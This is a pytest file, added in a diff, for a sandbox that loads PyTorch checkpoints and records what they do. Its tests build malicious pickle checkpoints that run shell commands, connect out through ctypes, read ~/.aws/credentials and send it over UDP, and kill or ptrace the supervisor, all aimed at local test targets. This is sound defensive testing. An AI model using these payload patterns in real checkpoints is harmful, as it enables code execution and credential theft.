@@ -1,0 +1,267 @@
+"""Kernel-level monitoring: every technique below is seen by the supervisor through seccomp user
+notification, recorded as a ``kernel`` event, refused, and judged in the report.
+
+Payloads are harmless: they only try to create a marker file in a directory the test owns or to
+reach a 127.0.0.1 port the test listens on. Each test also proves that nothing reached the host.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+import torch
+
+import sandbox
+from sandbox.report import Event, Finding, LoadReport, Severity, Verdict
+from tests import checkpoints as ck
+from tests.conftest import Listener
+
+pytestmark = pytest.mark.container
+
+
+# -- helpers -------------------------------------------------------------------------------------
+
+@pytest.fixture
+def udp_port() -> Iterator[tuple[int, socket.socket]]:
+    """A UDP socket on 127.0.0.1 that must stay silent."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind(("127.0.0.1", 0))
+    s.setblocking(False)
+    yield s.getsockname()[1], s
+    s.close()
+
+
+def _udp_silent(s: socket.socket) -> bool:
+    try:
+        s.recvfrom(65536)
+    except BlockingIOError:
+        return True
+    return False
+
+
+def hostile(tmp_path: Path, code: str, name: str = "payload.pt") -> Path:
+    """A realistic checkpoint whose unpickling runs ``code`` (wrapped so that the load itself
+    succeeds and the verdict rests on what the payload tried, not on an exception)."""
+    wrapped = "try:\n" + "".join(f"    {line}\n" for line in code.splitlines()) + \
+              "except BaseException:\n    pass\n"
+    return ck.save(ck.hostile_checkpoint(ck.exec_payload(wrapped)), tmp_path / name)
+
+
+def kernel(report: LoadReport, kind: str | tuple[str, ...]) -> list[Event]:
+    kinds = (kind,) if isinstance(kind, str) else kind
+    return [e for e in report.events if e.source == "kernel" and e.kind in kinds]
+
+
+def finding(report: LoadReport, rule: str) -> Finding:
+    found = [f for f in report.findings if f.rule == rule]
+    assert found, f"no {rule} finding in {[f.rule for f in report.findings]}"
+    return found[0]
+
+
+def assert_supported(report: LoadReport, f: Finding) -> None:
+    """Every event a finding cites is in the report and comes from the kernel."""
+    ids = {e.id: e for e in report.events}
+    assert f.events, f"{f.rule} cites no event"
+    for i in f.events:
+        assert i in ids and ids[i].source == "kernel"
+
+
+def assert_nothing_reached_host(marker: Path | None = None, listener: Listener | None = None) -> None:
+    if marker is not None:
+        assert not marker.exists()
+    if listener is not None:
+        assert listener.connections == 0
+        assert not listener.received
+
+
+# -- (a) os.system -------------------------------------------------------------------------------
+
+def test_os_system_is_an_exec_event_with_argv(tmp_path: Path) -> None:
+    # CWE-502 classic: REDUCE of os.system (posix_spawn of /bin/sh -c)
+    marker = tmp_path / "marker-system"
+    path = ck.save(ck.hostile_checkpoint(ck.Reduce(os.system, f"touch {marker}")), tmp_path / "s.pt")
+    proc = subprocess.run([str(Path(sys.executable).parent / "model-sandbox"), "scan", str(path),
+                           "--format", "json"], capture_output=True, text=True, timeout=300,
+                          check=False)
+    assert proc.returncode == 1, proc.stderr
+    report = LoadReport.from_json(proc.stdout)
+    assert report.verdict is Verdict.MALICIOUS
+    execs = kernel(report, ("execve", "execveat"))
+    assert execs and all(e.action == "denied" for e in execs)
+    assert any(f"touch {marker}" in e.detail.get("argv", []) for e in execs)
+    f = finding(report, "exec-attempt")
+    assert f.severity is Severity.CRITICAL and f"touch {marker}" in f.evidence["argv"]
+    assert_supported(report, f)
+    assert_nothing_reached_host(marker)
+
+
+# -- (b) subprocess.Popen ------------------------------------------------------------------------
+
+def test_subprocess_popen_is_refused_and_recorded(tmp_path: Path) -> None:
+    marker = tmp_path / "marker-popen"
+    path = hostile(tmp_path, f"import subprocess\nsubprocess.Popen(['touch', {str(marker)!r}]).wait()")
+    report = sandbox.scan(path)
+    assert report.verdict is Verdict.MALICIOUS
+    execs = kernel(report, "execve")
+    assert execs and all(e.action == "denied" for e in execs)
+    assert any(e.detail["argv"] == ["touch", str(marker)] for e in execs)
+    assert_supported(report, finding(report, "exec-attempt"))
+    # the audit hook saw it too, but only as context
+    assert any(e.kind == "subprocess.Popen" and e.source == "self_reported" for e in report.events)
+    assert_nothing_reached_host(marker)
+
+
+# -- (c) builtins.exec of a connecting code string -------------------------------------------------
+
+def test_exec_payload_connect_is_denied_with_address(tmp_path: Path, listener: Listener) -> None:
+    path = hostile(tmp_path, "import socket\n"
+                   f"socket.create_connection(('127.0.0.1', {listener.port}), timeout=2)")
+    report = sandbox.scan(path)
+    assert report.verdict is Verdict.MALICIOUS
+    conns = kernel(report, "connect")
+    assert conns and conns[0].action == "denied"
+    assert conns[0].detail["address"] == "127.0.0.1" and conns[0].detail["port"] == listener.port
+    f = finding(report, "network-connect")
+    assert f.severity is Severity.CRITICAL
+    assert f.evidence["event"] == f"connect AF_INET 127.0.0.1:{listener.port} — denied"
+    assert f"connect AF_INET 127.0.0.1:{listener.port} — denied" in report.to_text()
+    assert_supported(report, f)
+    assert_nothing_reached_host(listener=listener)
+
+
+# -- (d) ctypes straight into libc: no audit event, the kernel still sees it ------------------------
+
+def test_ctypes_libc_connect_and_system_are_seen_by_the_kernel(tmp_path: Path,
+                                                              listener: Listener) -> None:
+    marker = tmp_path / "marker-ctypes"
+    path = hostile(tmp_path, "import ctypes, socket, struct\n"
+                   "libc = ctypes.CDLL(None)\n"
+                   "fd = libc.socket(2, 1, 0)\n"
+                   f"addr = struct.pack('<HH4s8x', 2, socket.htons({listener.port}), bytes([127, 0, 0, 1]))\n"
+                   "libc.connect(fd, addr, 16)\n"
+                   f"libc.system(b'touch {marker}')")
+    report = sandbox.scan(path)
+    assert report.verdict is Verdict.MALICIOUS
+    assert any(e.detail.get("port") == listener.port and e.action == "denied"
+               for e in kernel(report, "connect"))
+    assert any(f"touch {marker}" in e.detail.get("argv", []) for e in kernel(report, "execve"))
+    finding(report, "network-connect")
+    finding(report, "exec-attempt")
+    assert_nothing_reached_host(marker, listener)
+
+
+# -- (e) credential theft: canary file read + exfiltration by sendto --------------------------------
+
+def test_canary_read_and_sendto_is_an_exfiltration_finding(tmp_path: Path,
+                                                           udp_port: tuple[int, socket.socket]) -> None:
+    port, udp = udp_port
+    path = hostile(tmp_path, "import os, socket\n"
+                   "data = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()\n"
+                   "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+                   f"s.sendto(data, ('127.0.0.1', {port}))")
+    report = sandbox.scan(path)
+    assert report.verdict is Verdict.MALICIOUS
+    opened = finding(report, "canary-file-read")
+    assert opened.severity is Severity.HIGH
+    assert opened.evidence["path"] == "/home/sandbox/.aws/credentials"
+    exfil = finding(report, "canary-exfiltration")
+    assert exfil.severity is Severity.CRITICAL
+    assert {"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"} <= set(exfil.evidence["canaries"])
+    sends = kernel(report, "sendto")
+    assert sends and sends[0].action == "denied" and sends[0].detail["port"] == port
+    assert_supported(report, exfil)
+    assert _udp_silent(udp)
+
+
+def test_canary_environment_value_in_argv_is_exfiltration(tmp_path: Path) -> None:
+    marker = tmp_path / "marker-env"
+    path = hostile(tmp_path, "import os\n"
+                   f"os.system('echo ' + os.environ['AWS_SECRET_ACCESS_KEY'] + ' > {marker}')")
+    report = sandbox.scan(path)
+    f = finding(report, "canary-exfiltration")
+    assert "AWS_SECRET_ACCESS_KEY" in f.evidence["canaries"]
+    assert_nothing_reached_host(marker)
+
+
+# -- (f) a thread that connects later ----------------------------------------------------------------
+
+def test_thread_connecting_after_a_delay_is_seen(tmp_path: Path, listener: Listener) -> None:
+    path = hostile(tmp_path, "import threading\n"
+                   "def later():\n"
+                   "    import socket, time\n"  # exec'd code: the thread has its own globals
+                   "    time.sleep(0.3)\n"
+                   "    try:\n"
+                   f"        socket.create_connection(('127.0.0.1', {listener.port}), timeout=2)\n"
+                   "    except OSError:\n"
+                   "        pass\n"
+                   "t = threading.Thread(target=later)\n"
+                   "t.start()\n"
+                   "t.join()")
+    report = sandbox.scan(path)
+    conns = [e for e in kernel(report, "connect") if e.detail.get("port") == listener.port]
+    assert conns and conns[0].action == "denied" and conns[0].t >= 0.3
+    assert report.verdict is Verdict.MALICIOUS
+    assert_nothing_reached_host(listener=listener)
+
+
+# -- (g) going after the supervisor --------------------------------------------------------------------
+
+def test_kill_and_ptrace_of_the_supervisor_fail_and_kills_are_recorded(tmp_path: Path) -> None:
+    path = hostile(tmp_path, "import ctypes, os, signal\n"
+                   "for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT):\n"
+                   "    try:\n"
+                   "        os.kill(1, sig)\n"
+                   "    except OSError:\n"
+                   "        pass\n"
+                   "libc = ctypes.CDLL(None)\n"
+                   "libc.ptrace(16, 1, 0, 0)\n"          # PTRACE_ATTACH
+                   "libc.kill(-1, 9)\n")
+    report = sandbox.scan(path)
+    kills = [e for e in kernel(report, "kill") if e.detail.get("target") == 1]
+    assert len(kills) == 3 and all(e.action == "denied" for e in kills)
+    # ptrace is refused by the container's own profile before the notifying filter sees it
+    # (the strictest filter wins), so it leaves no kernel event; it fails all the same.
+    assert not kernel(report, "ptrace")
+    f = finding(report, "attack-supervisor")
+    assert f.severity is Severity.CRITICAL
+    assert_supported(report, f)
+    # the supervisor survived: it wrote its status, and the load itself completed
+    assert report.error is None and "wall_s" in report.resources and report.tensors > 0
+
+
+# -- (h) an event flood ---------------------------------------------------------------------------------
+
+def test_event_flood_is_truncated_with_exact_counts(tmp_path: Path) -> None:
+    path = hostile(tmp_path, "import socket\n"
+                   "for i in range(20000):\n"
+                   "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()")
+    report = sandbox.scan(path)
+    sockets = kernel(report, "socket")
+    assert 0 < len(sockets) <= 5000
+    trunc = finding(report, "event-log-truncated")
+    assert trunc.evidence["counts"]["kernel:socket:allowed"] == 20000
+    f = finding(report, "network-socket")
+    assert f.severity is Severity.MEDIUM and f.evidence["occurrences"] == len(sockets)
+    assert len(f.events) <= 50
+    assert report.verdict is Verdict.SUSPICIOUS
+
+
+# -- (i) benign ------------------------------------------------------------------------------------------
+
+def test_benign_state_dict_is_clean_with_no_findings(tmp_path: Path) -> None:
+    path = tmp_path / "benign.pt"
+    torch.save(ck.state_dict(), path)
+    report = sandbox.scan(path)
+    assert report.verdict is Verdict.CLEAN
+    assert report.findings == []
+    assert not [e for e in report.events if e.source == "kernel" and e.action == "denied"]
+    # the same report survives its own JSON round trip
+    assert LoadReport.from_json(report.to_json()).verdict is Verdict.CLEAN
+    json.loads(report.to_json())
